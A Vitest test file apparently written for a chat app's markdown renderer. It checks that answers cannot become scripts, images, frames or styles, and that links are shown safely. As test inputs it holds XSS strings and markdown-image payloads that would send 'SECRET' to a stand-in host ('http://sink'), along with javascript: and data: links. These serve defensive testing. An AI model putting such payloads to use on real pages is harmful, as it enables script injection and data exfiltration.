import { type ComponentType, createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { createIntl, RawIntlProvider } from 'react-intl';
import { expect, test } from 'vitest';
import { loadCloseMarks } from '../../web/src/chat/close-marks.ts';
import { en } from '../../web/src/i18n/en.ts';

// By name only: the compiler settings of the tests know no JSX.
const file = new URL('../../web/src/chat/markdown-text.tsx', import.meta.url).pathname;
const { MarkdownText }: { MarkdownText: ComponentType<{ text: string; growing: boolean }> } = await import(file);
await loadCloseMarks();
const value = createIntl({ locale: 'en', messages: en });

const html = (text: string, growing = false): string =>
  renderToStaticMarkup(createElement(RawIntlProvider, { value }, createElement(MarkdownText, { text, growing })));

/** Names of the elements that were made, in the order of the alphabet. */
const elements = (markup: string): string[] =>
  [...new Set([...markup.matchAll(/<([a-z0-9]+)/g)].map(([, name = '']) => name))].toSorted();

test('Nothing in an answer becomes HTML, a picture, a frame, a style or a script', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=http://sink/?d=SECRET onerror=alert(1)>',
    '<svg onload=alert(1)></svg><iframe src="http://sink"></iframe>',
    '<style>@import "http://sink"</style><link rel=prefetch href=http://sink><meta http-equiv=refresh content=0>',
    '![x](http://sink/?d=SECRET)',
    '![x][ref]\n\n[ref]: http://sink/?d=SECRET',
    '```mermaid\ngraph TD; a-->b\n```',
  ];
  for (const growing of [true, false]) {
    const made = elements(html(hostile.join('\n\n'), growing));
    // `a`: what looks like an address is a link, to be opened by hand and with its host beside it.
    expect(made).toEqual(['a', 'code', 'div', 'p', 'pre', 'span']);
    for (const part of hostile) expect(html(part, growing)).not.toMatch(/\s(?:src|srcset|style|on\w+)=["']/);
  }
});

test('A picture is said to be left out, by its description', () => {
  expect(html('![Sales of May](http://sink/x.png)')).toContain('image left out: Sales of May');
});

test('A link opens apart, without a way back, and shows where it leads', () => {
  const link = html('[your bank](https://evil.example/login)');
  expect(link).toContain('href="https://evil.example/login"');
  expect(link).toContain('target="_blank"');
  expect(link).toContain('rel="noopener noreferrer"');
  expect(link).toContain('(evil.example)');
});

test('A link to anywhere but the web or a mailbox is only its text', () => {
  for (const href of [
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/session',
    '#x',
    '//evil',
    'ftp://x',
  ]) {
    const made = html(`[text](${href})`);
    expect(made).toContain('text');
    expect(made).not.toContain('<a');
  }
});

test('Marks that are still open are closed for show while the answer grows', () => {
  expect(html('It is **bo', true)).toContain('<strong>bo</strong>');
  expect(html('See [the rep', true)).not.toContain('[');
  expect(html('It is **bo', false)).toContain('**bo');
});

test('Headings of an answer stand under the heading of its question', () => {
  expect(elements(html('# One\n\n## Two\n\n### Three'))).toEqual(['div', 'h3', 'h4']);
});

test('A table of hundreds of rows is one table with one head', () => {
  const rows = Array.from({ length: 300 }, (_, at) => `| ${at} | **x** |`);
  const made = html(['| n | w |', '|--:|---|', ...rows].join('\n'));
  expect(made.match(/<table/g)).toHaveLength(1);
  expect(made.match(/<thead/g)).toHaveLength(1);
  expect(made.match(/<tr/g)).toHaveLength(301);
});

test('Code is shown as it is, with its blank lines', () => {
  expect(html('```sql\nselect **1**\n\nfrom <t>\n```')).toContain('select **1**\n\nfrom &lt;t&gt;');
});

test('One tilde is “about” and strikes nothing through', () => {
  expect(html('from ~20 to ~30')).toContain('from ~20 to ~30');
});
